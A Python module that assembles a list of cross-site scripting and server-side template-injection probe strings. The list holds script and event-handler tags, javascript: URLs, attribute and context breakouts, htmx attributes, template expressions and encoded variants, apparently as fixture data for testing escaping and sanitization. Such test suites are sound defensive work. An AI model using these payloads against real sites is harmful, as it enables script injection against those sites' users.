"""A hundred and twenty texts that try to become code when somebody else reads them."""

from __future__ import annotations

from itertools import chain

_CALL = "alert(1)"
_ELEMENTS = (
    *(
        "<script>{}</script>",
        "<ScRiPt>{}</sCrIpT>",
        "<script src=//x.invalid></script>",
        "<script\n>{}</script>",
    ),
    *(
        "<img src=x onerror={}>",
        "<img src=x onerror='{}'>",
        "<img/src/onerror={}>",
        "<image href=x onerror={}>",
    ),
    *(
        "<svg onload={}>",
        "<svg/onload={}>",
        "<svg><script>{}</script></svg>",
        "<svg><a href=javascript:{}>x</a>",
    ),
    *(
        "<body onload={}>",
        "<iframe src=javascript:{}>",
        "<iframe srcdoc='<script>{}</script>'>",
        "<object data=javascript:{}>",
    ),
    *(
        "<embed src=javascript:{}>",
        "<details open ontoggle={}>",
        "<video><source onerror={}>",
        "<audio src=x onerror={}>",
    ),
    *(
        "<input autofocus onfocus={}>",
        "<select autofocus onfocus={}>",
        "<textarea autofocus onfocus={}>",
        "<keygen onfocus={}>",
    ),
    *(
        "<marquee onstart={}>",
        "<meta http-equiv=refresh content='0;javascript:{}'>",
        "<base href=//x.invalid>",
    ),
    *(
        "<link rel=stylesheet href=//x.invalid>",
        "<style>@import'//x.invalid'</style>",
        "<form action=javascript:{}><button>",
    ),
    *(
        "<a href=javascript:{}>x</a>",
        "<a href='java\tscript:{}'>x</a>",
        "<math><mtext></mtext><script>{}</script>",
    ),
    *(
        "<template><script>{}</script></template>",
        "<noscript><img src=x onerror={}></noscript>",
        "<x onclick={}>x",
    ),
)
_ESCAPES = (
    *('">{}', "'>{}", "-->{}", "</title>{}", "</textarea>{}", "</option></select>{}"),
    *("</script>{}", "</style>{}", "]]>{}", "</legend></fieldset>{}"),
)
_BREAKERS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>")
_ATTRIBUTES = (
    *(
        '" onmouseover="{}',
        "' onfocus='{}' autofocus='",
        '" autofocus onfocus="{}',
        '" style="background:url(//x.invalid)',
    ),
    *(
        '" formaction="javascript:{}',
        "` onload=`{}",
        '"onload={} x="',
        "x onerror={}",
        '" srcdoc="<script>{}</script>',
    ),
    *(
        '" hx-get="//x.invalid" hx-trigger="load',
        '" hx-on:load="{}',
        '" data-hx-on="{}',
        '" is="x" onclick="{}',
    ),
)
_TEMPLATES = (
    *(
        "{{7*7}}",
        "{% raw %}{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{config}}",
        "{0.__class__}",
        "%(x)s",
        "{x!r}",
    ),
    *(
        "{{''.__class__.__mro__}}",
        "[[7*7]]",
        "$(alert(1))",
        "@{7*7}",
        "*{7*7}",
        "{#comment#}",
        "{{_('x')|safe}}",
    ),
)
_ADDRESSES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\u0000script:alert(1)".replace("\u0000", ""),
        "data:text/html,<b>",
    ),
    *(
        "vbscript:alert(1)",
        "//x.invalid",
        "https://x.invalid/?a=1&b=2",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
    ),
)
_ENTITIES = (
    *(
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)",
        "&amp;lt;b&amp;gt;",
        "<b>bold</b>",
        "a & b < c > d",
    ),
    *(
        "\\u003cscript\\u003e",
        "\\x3cscript\\x3e",
        "%3Cscript%3E",
        "＜script＞alert(1)＜/script＞",
        "<<script>alert(1)//<</script>",
    ),
    *('"', "'", "`", "<", ">", "&", "</", "<!--", "<![CDATA[", "'\"`<>&"),
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        chain(
            (text.replace("{}", _CALL) for text in _ELEMENTS),
            (text.replace("{}", code) for text in _ESCAPES for code in _BREAKERS),
            (text.replace("{}", _CALL) for text in _ATTRIBUTES),
            *(_TEMPLATES, _ADDRESSES, _ENTITIES),
        )
    )
)
